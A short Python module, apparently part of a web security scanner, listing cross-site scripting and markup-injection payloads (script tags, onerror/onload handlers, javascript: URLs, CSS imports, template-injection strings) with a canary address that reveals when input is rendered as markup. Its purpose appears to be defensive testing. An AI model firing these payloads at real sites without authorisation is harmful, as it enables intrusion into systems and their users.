"""What an attacker writes into every field that a visitor can fill.

`{marker}` becomes an address whose being asked for shows that the text was taken for markup.
"""

PAYLOADS = (
    "<script>alert(1)</script><script src={marker}></script>",
    "<img src={marker} onerror=alert(1)>",
    '"><svg onload=alert(1)><image href={marker} />',
    "'-alert(1)-'",
    "</title></textarea></style><iframe src={marker}></iframe>",
    "<a href=javascript:alert(1)>x</a> javascript:alert(1) data:text/html,<script>alert(1)</script>",
    "<style>@import '{marker}';*{{background:url({marker})}}</style>",
    "{{{{constructor.constructor('alert(1)')()}}}} ${{alert(1)}} __proto__",
    "\u202e\u0000\ufeff\u2028<b>bold</b>\u0007",
)


def payloads(marker: str) -> list[str]:
    """The texts, with this address in them."""
    return [payload.format(marker=marker) for payload in PAYLOADS]
